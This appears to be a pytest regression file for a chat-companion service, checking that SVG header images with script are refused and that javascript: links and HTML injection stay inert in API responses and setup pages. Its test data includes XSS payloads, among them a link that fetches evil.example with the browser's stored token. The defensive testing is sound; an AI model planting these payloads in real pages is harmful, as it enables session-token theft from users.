"""Incidents of comparable systems: what users, models and pictures bring along is never run by a browser."""

from __future__ import annotations

import pytest
from httpx2 import Response

from tests.services.hub import PASSWORD, Client
from tests.services.pictures import flat_png
from tests.services.refusals import refused
from tests.services.uploads import FORM, form, part

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
LINK = "[click](javascript:fetch('//evil.example/'+localStorage.token)) <img src=x onerror=alert(1)>"
SHOWN = {"image/avif", "image/webp", "image/jpeg"}


@pytest.mark.parametrize(
    ("content", "media_type", "status"),
    [
        (SVG, "image/svg+xml", 415),
        (SVG, "image/png", 415),
        (SVG, "image/jpeg", 415),
        (b"\x89PNG\r\n\x1a\n" + SVG, "image/png", 422),
        (form(part(SVG, file_name="me.svg", more=b"Content-Type: image/svg+xml\r\n")), FORM, 415),
        (form(part(SVG, file_name="me.png", more=b"Content-Type: image/png\r\n")), FORM, 415),
    ],
)
async def test_cve_2026_56398_an_svg_is_no_picture(
    client: Client, content: bytes, media_type: str, status: int
) -> None:
    companion = await client.companion()
    path = f"/api/companions/{companion['id']}/header-image"
    refused(await client.http.put(path, content=content, headers={"Content-Type": media_type}), status)
    assert (await client.http.get(f"/api/companions/{companion['id']}")).json()["header_image"] is None


async def test_cve_2026_56398_pictures_are_shown_as_pictures_only(client: Client) -> None:
    companion = await client.companion()
    behind = flat_png(64, 48) + SVG  # what follows a picture is not kept
    url = (await client.set_header_image(companion["id"], behind))["url"]
    for accept in ("*/*", "image/svg+xml", "text/html", "image/webp", "image/jpeg"):
        for query in ("", "?size=thumb"):
            answer = await client.http.get(url + query, headers={"Accept": accept})
            assert answer.headers["content-type"] in SHOWN
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert answer.headers["content-security-policy"] == "default-src 'none'; sandbox"
            assert b"<script>" not in answer.content


def inert(answer: Response) -> Response:
    """Check that no browser makes a page of an answer."""
    assert answer.headers["content-type"].partition(";")[0] in (
        "application/json",
        "application/problem+json",
        "text/event-stream",
    )
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-security-policy"].startswith("default-src 'none'")
    return answer


async def test_cve_2026_109288_a_javascript_link_stays_text(client: Client) -> None:
    companion = await client.companion(name=LINK[:100], greeting=LINK)
    conversation = await client.conversation(companion["id"])
    sent = await client.send(conversation["id"], LINK)
    await client.ended(sent["response"]["id"])
    messages = f"/api/conversations/{conversation['id']}/messages"
    for path in (
        messages,
        f"/api/companions/{companion['id']}",
        f"/api/responses/{sent['response']['id']}",
        f"/api/responses/{sent['response']['id']}/events",
    ):
        for accept in ("text/html", "*/*"):
            inert(await client.http.get(path, headers={"Accept": accept}))
    inert(await client.http.get(f"{messages}?cursor={LINK}"))
    said = [each["content"] for each in (await client.http.get(messages)).json()["items"]]
    assert said.count(LINK) == 2  # as it was written, so that every client can show it as it likes
    for page in ("/", "/docs", "/setup"):
        assert "javascript:" not in (await client.http.get(page)).text
    typed = {"token": "x", "username": f'"><a href="{LINK}">', "email": LINK, "password": "x"}
    answer = await client.http.post("/setup", data=typed)
    assert "<img src=x" not in answer.text
    assert '<a href="[click]' not in answer.text


async def test_cve_2026_109288_no_script_reads_the_sign_in(client: Client) -> None:
    body = {"login": client.user["username"], "password": PASSWORD, "cookie": True}
    answer = await client.http.post("/api/auth/login", json=body)
    assert "httponly" in answer.headers["set-cookie"].lower()
